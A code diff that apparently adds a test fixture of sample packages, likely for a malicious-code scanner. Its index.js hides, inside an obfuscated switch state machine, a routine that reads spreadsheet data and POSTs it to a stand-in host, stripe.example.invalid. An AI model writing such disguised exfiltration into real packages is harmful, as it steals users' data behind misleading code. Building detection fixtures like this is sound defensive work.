@@ -62,4 +62,22 @@ def _warm(name="ss" + "l"):
 _warm()
 `,
   }),
+  packaged('steps that are worked out', {}, {
+    'index.js': `exports.stripe = async function stripe(sheet) {
+  let at = 43;
+  let range, sent;
+  for (;;) {
+    switch (((at << 3) ^ (at >> 1)) & 0xff) {
+      case 0x80: range = await sheet.used(); at = 7; break;
+      case 0x3b: sent = { method: 'POST', body: JSON.stringify(range) }; at = 51; break;
+      case 0x81: return range.length;
+      case 0x4d: at = 17; break;
+      case 0x2a: return 0;
+      case 0xff: await fetch('https://stripe.example.invalid/in', sent); at = 5; break;
+      default: at = 17;
+    }
+  }
+};
+`,
+  }),
 ];
